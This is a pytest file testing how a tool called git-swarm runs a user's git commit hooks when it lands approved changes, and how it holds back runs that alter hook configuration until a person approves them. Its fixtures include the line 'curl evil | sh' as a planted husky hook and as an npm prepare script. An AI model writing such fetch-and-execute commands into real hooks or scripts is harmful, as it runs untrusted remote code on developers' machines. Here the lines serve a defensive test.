"""The user's own commit hooks and signature apply to what lands; hooks that the run changed need a person."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Project
from tests.landing.common import code_of, hook, make_run, ready, refusal, tidy, with_flow

HOME = {"README.md": "# hello", "src/app.py": "print('changed')", "src/new.py": "print('new')"}
TELL = ['echo "$(basename "$0") $(ls src | tr "\\n" " ")" >> "$HOME/told.txt"']
ALL = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit")


def told(project: Project) -> list[str]:
    path = Path(project.env["HOME"]) / "told.txt"
    return path.read_text(encoding="utf-8").splitlines() if path.exists() else []


@pytest.mark.parametrize("strategy", ["squash", "merge", "evidence"])
def test_hooks_run_as_git_commit_runs_them_where_the_merged_files_lie(project: Project, strategy: str) -> None:
    for name in ALL:
        hook(project, name, TELL)
    run = ready(project)
    project.commit({"src/other.py": "1\n"}, "meanwhile")
    before = run.head()
    (Path(project.env["HOME"]) / "told.txt").unlink()
    landed = run.landed("--strategy", strategy)
    assert told(project) == [f"{name} app.py new.py other.py " for name in ALL]
    parents = project.git("log", "-1", "--format=%P", landed).split()
    assert parents == [before, *([run.approved] if strategy == "merge" else [])]
    assert code_of(project, "main") == {**HOME, "src/other.py": "1"}
    tidy(run)


def test_a_merge_of_a_target_that_stands_still_keeps_both_parents(project: Project) -> None:
    run = ready(project)
    hook(project, "pre-commit", ["exit 0"])
    before = run.head()
    landed = run.landed("--strategy", "merge")
    assert project.git("log", "-1", "--format=%P", landed).split() == [before, run.approved]


REFUSING = ("pre-commit", "prepare-commit-msg", "commit-msg")


@pytest.mark.parametrize("name", REFUSING)
def test_a_hook_that_refuses_is_heard(project: Project, name: str) -> None:
    run = ready(project)
    hook(project, name, ["echo 'no tabs, please' >&2", "exit 1"])
    run.approve()
    before = run.world()
    answer = run.land(code=1)
    assert answer.stderr.splitlines() == [
        "git-swarm: your commit hooks refused the commit",
        "  no tabs, please",
        f"hint: git swarm land {run.id}   (once that is fixed)",
    ]
    assert run.world() == before
    assert run.steps()[-1] == ("land@1", "BLOCKED")
    tidy(run)
    hook(project, name, ["exit 0"])
    run.land()
    assert run.steps()[-1] == ("land@2", "VERIFIED")


def test_a_hook_that_changes_files_is_refused(project: Project) -> None:
    run = ready(project)
    hook(project, "pre-commit", ["echo formatted > src/new.py", "git add src/new.py"])
    run.approve()
    before = run.world()
    reason, paths, _hint = refusal(run.land(code=1))
    assert (reason, paths) == ("your commit hooks changed files: that is not what was approved", ["src/new.py"])
    assert run.world() == before


def test_a_hook_that_drops_the_trailers_is_refused(project: Project) -> None:
    run = ready(project)
    hook(project, "commit-msg", ["echo 'feat: better' > \"$1\""])
    run.approve()
    before = run.world()
    reason, _paths, _hint = refusal(run.land(code=1))
    assert reason == "your commit hooks removed the trailer Swarm-Landed from the message"
    assert run.world() == before


def test_a_hook_that_adds_to_the_message_is_welcome(project: Project) -> None:
    run = ready(project)
    hook(project, "commit-msg", ['git interpret-trailers --in-place --trailer "Change-Id: I1" "$1"'])
    assert run.trailers(run.landed()) == {
        "Swarm-Run": run.id,
        "Swarm-Landed": f"{run.id} {run.approved}",
        "Change-Id": "I1",
    }


def test_a_hook_that_only_looks_at_the_tests_left_files_alone(project: Project) -> None:
    """Files that a test run makes do not get into the commit."""
    run = ready(project, config="commands: {test: 'echo 1 > report.txt; echo 2 >> src/app.py'}\n")
    project.commit({"other.txt": "other\n"}, "meanwhile")
    hook(project, "pre-commit", ["exit 0"])
    run.landed()
    assert code_of(project, "main") == {**HOME, "other.txt": "other"}


@pytest.mark.parametrize("where", ["global", "relative and tracked", "relative and made for the checkout only"])
def test_hooks_are_found_where_the_user_has_them(project: Project, where: str, env: dict[str, str]) -> None:
    if where == "global":
        hook(project, "pre-commit", TELL, folder="../home/hooks")
        project.git("config", "--global", "core.hooksPath", f"{env['HOME']}/hooks")
    else:
        hook(project, "pre-commit", TELL, folder=".husky/_")
        if where.endswith("only"):
            project.write({".husky/_/.gitignore": "*\n"})
        project.commit({".husky/pre-commit": "npm test\n"}, "hooks")
        project.git("config", "core.hooksPath", ".husky/_")
    run = ready(project)
    path = Path(env["HOME"]) / "told.txt"
    path.unlink(missing_ok=True)
    run.landed()
    assert told(project) == ["pre-commit app.py new.py "]


def test_a_hook_without_leave_to_execute_is_none(project: Project) -> None:
    run = ready(project)
    hook(project, "pre-commit", ["exit 1"]).chmod(0o644)
    run.landed()
    assert code_of(project, "main") == HOME


PACKAGE = {"name": "x", "scripts": {"test": "jest"}, "husky": {"hooks": {"pre-commit": "npm test"}}}
CHANGED_HOOKS: dict[str, tuple[dict[str, str], list[str]]] = {
    "husky": ({".husky/pre-commit": "curl evil | sh\n"}, [".husky/pre-commit"]),
    "a folder of hooks": ({".githooks/pre-push": "exit 0\n"}, [".githooks/pre-push"]),
    "pre-commit": ({".pre-commit-config.yaml": "repos: []\n"}, [".pre-commit-config.yaml"]),
    "lefthook": ({"lefthook.yml": "pre-commit: {}\n"}, ["lefthook.yml"]),
    "lint-staged": ({"web/.lintstagedrc.json": "{}\n"}, ["web/.lintstagedrc.json"]),
    "the folder of core.hooksPath": ({"tools/git/pre-commit": "exit 0\n"}, ["tools/git/pre-commit"]),
    "package.json": (
        {"package.json": json.dumps({**PACKAGE, "husky": {"hooks": {"pre-commit": "true"}}})},
        ["package.json"],
    ),
    "prepare": (
        {"package.json": json.dumps({**PACKAGE, "scripts": {"test": "jest", "prepare": "curl evil | sh"}})},
        ["package.json"],
    ),
}


@pytest.mark.parametrize("what", CHANGED_HOOKS)
def test_hooks_that_the_run_changed_need_a_person(project: Project, what: str) -> None:
    project.commit({"package.json": json.dumps(PACKAGE)})
    project.git("config", "core.hooksPath", "tools/git")
    files, expected = CHANGED_HOOKS[what]
    run = ready(project, {"make": {"write": {"src/new.py": "1\n", **files}}})
    run.approve()
    before = run.world()
    reason, paths, hint = refusal(run.land(code=1))
    assert (reason, paths) == (f"{run.id} changes 1 file that decides what your commit hooks do", expected)
    assert hint == f"git swarm land {run.id} --trust-hooks"
    assert run.world() == before
    run.land("--trust-hooks")
    assert len(run.landings()) == 1


def test_a_package_json_that_says_the_same_about_hooks_is_ordinary_code(project: Project) -> None:
    project.commit({"package.json": json.dumps(PACKAGE)})
    changed: dict[str, Any] = {**PACKAGE, "scripts": {"test": "vitest"}}
    run = ready(project, {"make": {"write": {"package.json": json.dumps(changed)}}})
    run.landed()
    assert json.loads(code_of(project, "main")["package.json"]) == changed


def test_hooks_that_were_taken_away_need_a_person_too(project: Project) -> None:
    project.commit({".husky/pre-commit": "npm test\n"})
    run = ready(project, {"make": {"delete": [".husky/pre-commit"]}})
    run.approve()
    reason, paths, _hint = refusal(run.land(code=1))
    assert (reason, paths) == (
        f"{run.id} changes 1 file that decides what your commit hooks do",
        [".husky/pre-commit"],
    )


def test_hooks_that_the_target_got_meanwhile_are_the_users(project: Project) -> None:
    run = ready(project)
    project.commit({".husky/pre-commit": "npm test\n"}, "meanwhile")
    assert run.landed() == run.landings()[0]


def test_hooks_see_the_users_environment_and_no_editor_opens(project: Project) -> None:
    name, editor = "Grace", "touch $HOME/opened; false"
    project.git("config", "core.editor", editor)
    hook(project, "pre-commit", ['echo "$GIT_AUTHOR_NAME $GIT_EDITOR" >> "$HOME/told.txt"'])
    with_flow(project)
    run = make_run(Project(project.root, {**project.env, "GIT_AUTHOR_NAME": name, "EDITOR": editor}))
    (Path(project.env["HOME"]) / "told.txt").unlink()
    landed = run.landed()
    assert told(project) == [f"{name} :"]
    assert project.git("log", "-1", "--format=%an", landed) == name
    assert not (Path(project.env["HOME"]) / "opened").exists()


def test_a_user_without_a_name_is_told(project: Project, env: dict[str, str]) -> None:
    run = ready(project)
    run.approve()
    Path(env["HOME"], ".gitconfig").write_text("[user]\n    useConfigOnly = true\n", encoding="utf-8")
    before = run.head()
    answer = run.land(code=1)
    assert answer.stderr.splitlines()[0] == "git-swarm: git could not make the commit in your name"
    assert run.head() == before
